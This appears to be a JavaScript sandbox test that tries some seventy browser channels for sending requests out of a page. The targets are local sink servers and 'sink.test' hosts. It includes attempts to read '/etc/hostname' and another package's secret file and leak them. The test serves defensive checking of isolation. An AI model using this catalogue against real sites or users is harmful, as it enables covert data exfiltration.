// Every way out of a page that we know of. HTTP, WS, UDP are ports of sinks on this machine; each way has its own path
// or name, so that the sinks can say which one got through.
const http = (way) => `http://127.0.0.1:${HTTP}/${way}`;
const named = (way) => `http://${way}.sink.test:${HTTP}/${way}`;
const add = (tag, attributes, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const css = (text) => { add("style", {}).textContent = text; };
const frameOf = (html) => add("iframe", { srcdoc: html });

const ways = {
  "img": (w) => { new Image().src = http(w); },
  "img-named": (w) => { new Image().src = named(w); },
  "img-srcset": (w) => add("img", { srcset: `${http(w)} 1x` }),
  "picture": (w) => { const p = add("picture", {}); add("source", { srcset: http(w) }, p); add("img", { src: "data:," }, p); },
  "script": (w) => add("script", { src: http(w) }),
  "module": (w) => add("script", { type: "module", src: http(w) }),
  "dynamic-import": (w) => import(http(w)).catch(() => {}),
  "stylesheet": (w) => add("link", { rel: "stylesheet", href: http(w) }),
  "css-import": (w) => css(`@import url("${http(w)}");`),
  "css-background": (w) => { css(`#bg { background: url("${http(w)}"); width: 9px; height: 9px }`); add("div", { id: "bg" }); },
  "css-font": (w) => { css(`@font-face { font-family: far; src: url("${http(w)}") } #ff { font-family: far }`); add("p", { id: "ff" }).textContent = "x"; },
  "css-cursor": (w) => { css(`body { cursor: url("${http(w)}"), auto }`); },
  "fetch": (w) => fetch(http(w)).catch(() => {}),
  "fetch-named": (w) => fetch(named(w)).catch(() => {}),
  "fetch-no-cors": (w) => fetch(http(w), { mode: "no-cors", method: "POST", body: "x" }).catch(() => {}),
  "fetch-keepalive": (w) => fetch(http(w), { mode: "no-cors", keepalive: true }).catch(() => {}),
  "xhr": (w) => { const x = new XMLHttpRequest(); x.open("GET", http(w)); x.send(); },
  "xhr-sync": (w) => { const x = new XMLHttpRequest(); x.open("GET", http(w), false); try { x.send(); } catch {} },
  "websocket": (w) => { new WebSocket(`ws://127.0.0.1:${HTTP}/${w}`); },
  "websocket-named": (w) => { new WebSocket(`ws://${w}.sink.test:${HTTP}/${w}`); },
  "eventsource": (w) => { new EventSource(http(w)); },
  "beacon": (w) => { navigator.sendBeacon(http(w), "x"); },
  "iframe": (w) => add("iframe", { src: http(w) }),
  "object": (w) => add("object", { data: http(w), type: "text/html" }),
  "embed": (w) => add("embed", { src: http(w), type: "text/html" }),
  "video": (w) => add("video", { src: http(w), preload: "auto" }),
  "video-poster": (w) => add("video", { poster: http(w) }),
  "audio": (w) => add("audio", { src: http(w), preload: "auto" }),
  "track": (w) => { const v = add("video", { src: "data:video/webm;base64,", crossorigin: "anonymous" }); const t = add("track", { src: http(w), default: "" }, v); t.track.mode = "showing"; },
  "input-image": (w) => add("input", { type: "image", src: http(w) }),
  "svg-image": (w) => { add("div", {}).innerHTML = `<svg><image href="${http(w)}" width="9" height="9"/></svg>`; },
  "svg-use": (w) => { add("div", {}).innerHTML = `<svg><use href="${http(w)}#x"/></svg>`; },
  "worker-import": (w) => { new Worker(blob(`importScripts("${http(w)}")`, "text/javascript")); },
  "worker-fetch": (w) => { new Worker(blob(`fetch("${http(w)}", {mode: "no-cors"})`, "text/javascript")); },
  "worker-websocket": (w) => { new Worker(blob(`new WebSocket("ws://127.0.0.1:${HTTP}/${w}")`, "text/javascript")); },
  "shared-worker": (w) => { new SharedWorker(blob(`fetch("${http(w)}", {mode: "no-cors"})`, "text/javascript")); },
  "favicon": (w) => add("link", { rel: "icon", href: http(w) }, document.head),
  "touch-icon": (w) => add("link", { rel: "apple-touch-icon", href: http(w) }, document.head),
  "manifest": (w) => add("link", { rel: "manifest", href: http(w) }, document.head),
  "prefetch": (w) => add("link", { rel: "prefetch", href: http(w) }, document.head),
  "preload": (w) => add("link", { rel: "preload", as: "script", href: http(w) }, document.head),
  "modulepreload": (w) => add("link", { rel: "modulepreload", href: http(w) }, document.head),
  "dns-prefetch": (w) => add("link", { rel: "dns-prefetch", href: `//${w}.sink.test` }, document.head),
  "preconnect": (w) => add("link", { rel: "preconnect", href: `http://127.0.0.1:${HTTP}` }, document.head),
  "preconnect-named": (w) => add("link", { rel: "preconnect", href: `http://${w}.sink.test` }, document.head),
  "speculation": (w) => { add("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [http(w)] }] }); },
  "form-get": (w) => { add("iframe", { name: "fg" }); add("form", { action: http(w), target: "fg" }).submit(); },
  "form-post": (w) => { add("iframe", { name: "fp" }); add("form", { action: http(w), method: "post", target: "fp" }).submit(); },
  "anchor-click": (w) => { add("iframe", { name: "ac" }); add("a", { href: http(w), target: "ac" }).click(); },
  "anchor-ping": (w) => { add("iframe", { name: "ap" }); add("a", { href: "about:blank", target: "ap", ping: http(w) }).click(); },
  "anchor-download": (w) => add("a", { href: http(w), download: "x" }).click(),
  "window-open": (w) => { window.open(http(w)); },
  "frame-location": (w) => { add("iframe", {}).contentWindow.location.href = http(w); },
  "meta-refresh": (w) => frameOf(`<meta http-equiv="refresh" content="0;url=${http(w)}">`),
  "srcdoc-script": (w) => frameOf(`<script src="${http(w)}"><\/script>`),
  "blob-frame": (w) => add("iframe", { src: blob(`<img src="${http(w)}">`, "text/html") }),
  "data-frame": (w) => add("iframe", { src: `data:text/html,<img src="${http(w)}">` }),
  "webrtc-stun": (w) => rtc({ urls: `stun:127.0.0.1:${UDP}` }),
  "webrtc-turn": (w) => rtc({ urls: `turn:127.0.0.1:${UDP}`, username: "u", credential: "c" }),
  "webrtc-turn-tcp": (w) => rtc({ urls: `turn:127.0.0.1:${HTTP}?transport=tcp`, username: "u", credential: "c" }),
  "webrtc-named": (w) => rtc({ urls: `stun:${w}.sink.test:${UDP}` }),
  "webtransport": (w) => { new WebTransport(`https://127.0.0.1:${UDP}/${w}`).ready.catch(() => {}); },
  "https": (w) => fetch(`https://127.0.0.1:${HTTP}/${w}`).catch(() => {}),
  "file-fetch": () => fetch("file:///etc/hostname").then((r) => r.text()).then(leak).catch(() => {}),
  "file-frame": () => add("iframe", { src: "file:///etc/hostname" }),
  "other-package-fetch": () => fetch(`course://${OTHER}/secret.txt`).then((r) => r.text()).then(leak).catch(() => {}),
  "other-package-frame": () => add("iframe", { src: `course://${OTHER}/secret.txt` }),
  "qrc": () => fetch("qrc:/qtwebchannel/qwebchannel.js").then((r) => r.text()).then(leak).catch(() => {}),
  "top-navigation": (w) => { top.location.href = http(w); },
};

async function rtc(server) {
  const peer = new RTCPeerConnection({ iceServers: [server] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
}
function leak(text) { window.leaked = (window.leaked || []).concat(text.slice(0, 40)); new Image().src = `leak:${text.slice(0, 20)}`; }

for (const [way, go] of Object.entries(ways)) {
  console.log(`tried ${way}`);
  try {
    const result = go(way);
    if (result && result.catch) result.catch(() => {});
  } catch (error) { console.log(`${way}: ${error}`); }
}
console.log("all were tried");
